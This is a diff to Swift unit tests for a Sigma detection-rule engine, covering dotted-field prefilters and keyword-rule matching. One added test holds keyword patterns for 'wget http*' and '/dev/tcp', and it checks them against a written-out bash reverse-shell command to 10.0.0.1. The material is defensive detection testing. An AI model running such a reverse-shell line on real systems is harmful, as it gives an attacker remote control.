@@ -122,10 +122,21 @@ struct SigmaRuleSetTests {
         #expect(set.matches(try SigmaTestSupport.record(#"{"code":403}"#)) == [0])
     }
 
-    @Test func preFiltersNeverUseDottedFields() throws {
+    @Test func dottedPreFiltersStillMatchARecordThatSpellsTheFieldAsOneMember() throws {
         let rule = try SigmaTestSupport.rule("s:\n  a.b: x\ncondition: s")
         let set = SigmaRuleSet(rules: [rule])
+        #expect(set.alwaysEvaluatedRules.isEmpty)
+        #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"y"}}"#)).isEmpty)
         #expect(set.matches(try SigmaTestSupport.record(#"{"a.b":"x"}"#)) == [0])
         #expect(set.matches(try SigmaTestSupport.record(#"{"a":{"b":"X"}}"#)) == [0])
+    }
+
+    @Test func keywordRulesAreEvaluatedOnlyWhenANeedleOccurs() throws {
+        let rule = try SigmaTestSupport.rule("k:\n  - 'wget http*'\n  - '/dev/tcp'\ncondition: k")
+        let set = SigmaRuleSet(rules: [rule])
+        #expect(set.alwaysEvaluatedRules.isEmpty)
+        #expect(set.matches(.string("bash -i >& /DEV/TCP/10.0.0.1/4242")) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":["x","WGET https://x"]}"#)) == [0])
+        #expect(set.matches(try SigmaTestSupport.record(#"{"cmd":"wget ftp://x","wget http":1}"#)).isEmpty)
     }
 }
